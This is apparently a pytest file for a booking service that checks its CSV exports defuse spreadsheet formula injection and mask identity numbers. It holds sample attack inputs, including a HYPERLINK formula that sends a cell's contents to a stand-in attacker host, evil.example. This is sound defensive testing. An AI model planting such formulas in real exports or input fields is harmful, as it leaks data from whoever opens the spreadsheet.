"""Exports open in a spreadsheet as data: nothing a participant or a stranger typed runs as
a formula on the admin's desk (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import datetime as dt
import io

from queue_service.domain import audit
from queue_service.domain.audit import Actor
from queue_service.domain.privacy import mask_kpj
from queue_service.domain.spreadsheet import csv_text, safe_cell
from queue_service.store import keys
from tests.factories import booking_request

FORMULA_EMAIL = "=1+cmd@example.com"  # a valid address that a spreadsheet would run
FORMULA_USERNAME = '=HYPERLINK("https://evil.example/?x="&A1,"klik")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe():
    for formula in ("=1+1", "+A1", "-A1+2", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(formula) == "'" + formula
    for plain in ("Budi", "+628123456789", "-5", "12.5", "", "a=b", None):
        assert safe_cell(plain) == ("" if plain is None else plain)


def test_csv_text_reads_back_as_written_but_for_the_apostrophe():
    text = csv_text(["a", "b"], [["x,y", '=say "hi"'], [3, None]])
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["x,y", '\'=say "hi"'], ["3", ""]]


def test_a_formula_email_in_the_full_bookings_export_is_text(client, token, reservations, clock):
    # The API no longer keeps an e-mail (tests/web/test_privacy_notice.py); a booking stored
    # with one before that still exports it as text.
    reservations.reserve(booking_request(email=FORMULA_EMAIL), clock())
    url = "/api/v1/admin/branches/jakarta-salemba/bookings?date=2026-11-24&format=csv&full=1&reason=test"
    [row] = _rows(client.get(url, headers=token()).text)
    assert row["email"] == "'" + FORMULA_EMAIL
    assert row["phone"] == "+6281234567890"


def test_the_masked_export_shows_four_of_the_kpjs_digits(client, token, book, booking_body):
    body = booking_body()
    book(nik=body["nik"], kpj=body["kpj"])
    url = "/api/v1/admin/branches/jakarta-salemba/bookings?date=2026-11-24&format=csv"
    [row] = _rows(client.get(url, headers=token()).text)
    assert row["kpj"] == mask_kpj(body["kpj"]) == "*" * (len(body["kpj"]) - 4) + body["kpj"][-4:]


def test_a_formula_typed_as_a_username_is_text_in_the_audit_csv(client, token, redis):
    stranger = Actor(FORMULA_USERNAME, "", "203.0.113.9")
    audit.record(
        redis,
        keys.NATIONAL_AUDIT,
        stranger,
        "sign_in_failed",
        FORMULA_USERNAME,
        None,
        None,
        dt.datetime.now(dt.UTC),
    )
    exported = client.get("/api/v1/admin/audit?format=csv", headers=token())
    [row] = [r for r in _rows(exported.text) if r["action"] == "sign_in_failed"]
    assert row["actor"] == row["target"] == "'" + FORMULA_USERNAME
